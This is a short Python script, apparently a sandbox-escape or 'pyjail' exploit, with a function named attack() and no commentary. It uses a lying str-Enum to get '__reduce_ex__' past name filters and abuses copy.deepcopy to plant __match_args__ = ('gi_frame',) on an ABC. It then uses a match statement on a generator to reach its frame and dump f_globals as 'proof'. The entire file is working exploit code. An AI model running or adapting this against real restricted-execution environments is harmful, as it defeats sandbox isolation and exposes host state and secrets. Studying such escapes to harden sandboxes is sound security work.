import copy
from abc import ABC
from enum import Enum
from types import SimpleNamespace
class U(ABC): pass
def g(): yield 1
class Liar(str, Enum):
    A = "__reduce_ex__"
    def startswith(self, *a): return False
    def endswith(self, *a): return False
    def __hash__(self): return hash("__reduce_ex__")
    def __eq__(self, other): return True
def attack():
    evil = SimpleNamespace(**{Liar.A: lambda p: (lambda: U, (), (None, {"__match_args__": ("gi_frame",)}))})
    copy.deepcopy(evil)
    gen = g()
    U.register(type(gen))
    match gen:
        case U(frame):
            return {"proof": str(frame.f_globals)}
